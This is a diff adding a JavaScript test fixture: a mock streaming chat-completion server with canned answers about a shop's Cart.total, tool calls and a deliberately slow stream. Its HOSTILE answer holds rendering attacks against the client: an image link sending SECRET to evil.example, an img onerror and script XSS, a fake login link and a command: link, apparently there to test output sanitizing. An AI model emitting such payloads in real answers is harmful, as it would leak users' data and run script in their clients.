@@ -1,0 +1,123 @@
+/**
+ * A model that always does the same: it looks at a file, then answers in pieces.
+ *
+ * A question with SLOW gets 100 pieces a second for half a minute; one with HOSTILE an answer that
+ * tries to load and run things.
+ */
+
+import { createServer } from 'node:http';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+const ANSWER = `\`Cart.total\` adds up what is in the cart and converts it **once**, at the end:
+
+1. The prices of all items are summed, see shop/cart.py:18.
+2. \`convert\` in shop/prices.py:6 multiplies with the rate of the currency.
+3. \`round_cents\` rounds half up, as [the rule](knowledge/money.md#L15) asks.
+
+\`\`\`python
+def total(self, currency: str = "EUR") -> int:
+    cents = sum(price for _, price in self.items)
+    return round_cents(convert(cents, currency))  # whole cents
+\`\`\`
+
+| currency | rate |
+|---|--:|
+| EUR | 1.0 |
+| CNY | 7.8 |
+
+A currency without a rate ends in a \`KeyError\`; nothing in shop/currency.py:40 catches it.
+`;
+
+const ANSWER_ZH = `\`Cart.total\` 把购物车中所有商品的价格相加，并在最后**换算一次**：
+
+1. 先对价格求和，见 shop/cart.py:18。
+2. \`convert\`（shop/prices.py:6）乘以币种的汇率。
+3. \`round_cents\` 按[规则](knowledge/money.md#L15)四舍五入。
+
+\`\`\`python
+return round_cents(convert(cents, currency))
+\`\`\`
+
+没有汇率的币种会引发 \`KeyError\`，shop/currency.py:40 中并没有处理它。
+`;
+
+const HOSTILE = `![logo](https://evil.example/pixel.png?q=SECRET)
+
+<img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(1)</script>
+
+[harmless](https://evil.example/login) and [run](command:workbench.action.terminal.new)
+`;
+
+export async function startModel() {
+  const requests = [];
+  const server = createServer((request, response) => {
+    let body = '';
+    request.on('data', (piece) => (body += piece));
+    request.on('end', () => {
+      const parsed = JSON.parse(body);
+      const record = { headers: request.headers, body: parsed, wasCut: false };
+      requests.push(record);
+      response.on('close', () => (record.wasCut = !response.writableFinished));
+      void reply(parsed.messages, response);
+    });
+  });
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${server.address().port}/v1`,
+    requests,
+    stop: () =>
+      new Promise((resolve) => {
+        server.close(resolve);
+        server.closeAllConnections();
+      }),
+  };
+}
+
+async function reply(messages, response) {
+  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
+  const send = (delta, finish = null) => {
+    const choices = [{ index: 0, delta, finish_reason: finish }];
+    response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices })}\n\n`);
+  };
+  const question = JSON.stringify(messages.filter((each) => each.role === 'user').at(-1));
+  if (question.includes('SLOW')) {
+    for (let i = 0; i < 3000 && !response.destroyed; i += 1) {
+      send({ content: i % 12 === 11 ? `word ${i}.\n\n` : `word ${i} ` });
+      await sleep(10);
+    }
+  } else if (question.includes('HOSTILE')) {
+    await sendSlowly(HOSTILE, send);
+  } else if (messages.at(-1).role === 'tool') {
+    await sendSlowly(/[\u4e00-\u9fff]{2}/.test(question) ? ANSWER_ZH : ANSWER, send);
+  } else {
+    await sleep(300);
+    sendCalls(send);
+    send({}, 'tool_calls');
+  }
+  send({}, 'stop');
+  const usage = { prompt_tokens: 1840, completion_tokens: 212, total_tokens: 2052 };
+  response.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [], usage })}\n\n`);
+  response.end('data: [DONE]\n\n');
+}
+
+function sendCalls(send) {
+  const calls = [
+    ['read_file', { path: 'shop/cart.py', first_line: 14, last_line: 20 }],
+    ['search_files', { query: 'round_cents' }],
+    ['read_file', { path: 'shop/currency.py' }],
+  ];
+  const tool_calls = calls.map(([name, values], index) => ({
+    index,
+    id: `call-${index}`,
+    type: 'function',
+    function: { name, arguments: JSON.stringify(values) },
+  }));
+  send({ tool_calls });
+}
+
+async function sendSlowly(text, send) {
+  for (const piece of text.match(/[\s\S]{1,6}/g)) {
+    send({ content: piece });
+    await sleep(10);
+  }
+}
